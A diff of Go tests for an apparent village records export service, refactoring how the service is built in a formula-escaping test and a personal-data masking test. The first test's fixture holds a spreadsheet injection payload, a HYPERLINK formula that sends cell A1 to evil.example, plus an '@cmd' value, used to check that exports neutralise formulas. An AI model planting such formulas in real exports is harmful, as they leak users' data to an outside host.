@@ -47,7 +47,7 @@ func (r rows) Export(_ context.Context, _ string, _ Filter, header func([]string
 // A reason typed as a formula is exported as text in both formats; numbers stay numbers.
 func TestExportsDoNotCarryFormulas(t *testing.T) {
 	evil := `=HYPERLINK("http://evil.example/?"&A1,"查看详情")`
-	s := &Service{store: rows{{evil, int64(-20)}, {"@cmd", int64(5)}}}
+	s := &Service{Deps{Store: rows{{evil, int64(-20)}, {"@cmd", int64(5)}}}}
 	var out bytes.Buffer
 	if err := s.Write(t.Context(), auth.Principal{}, "entries", "csv", Filter{}, &out); err != nil {
 		t.Fatal(err)
@@ -87,7 +87,7 @@ func (n names) Names(context.Context, int64) ([]string, error) { return n, nil }
 // Township staff export a village as outsiders: names, phones and ID numbers are masked; the
 // village's own officials see them.
 func TestExportsForOutsidersAreMasked(t *testing.T) {
-	s := &Service{store: rows{{"帮助五保户杨秀兰（电话13800000299）修缮房屋", int64(30)}, {"张建国", int64(5)}}, names: names{"杨秀兰", "张建国"}}
+	s := &Service{Deps{Store: rows{{"帮助五保户杨秀兰（电话13800000299）修缮房屋", int64(30)}, {"张建国", int64(5)}}, Names: names{"杨秀兰", "张建国"}}}
 	read := func(p auth.Principal) [][]string {
 		var out bytes.Buffer
 		if err := s.Write(t.Context(), p, "entries", "csv", Filter{VillageID: 7}, &out); err != nil {
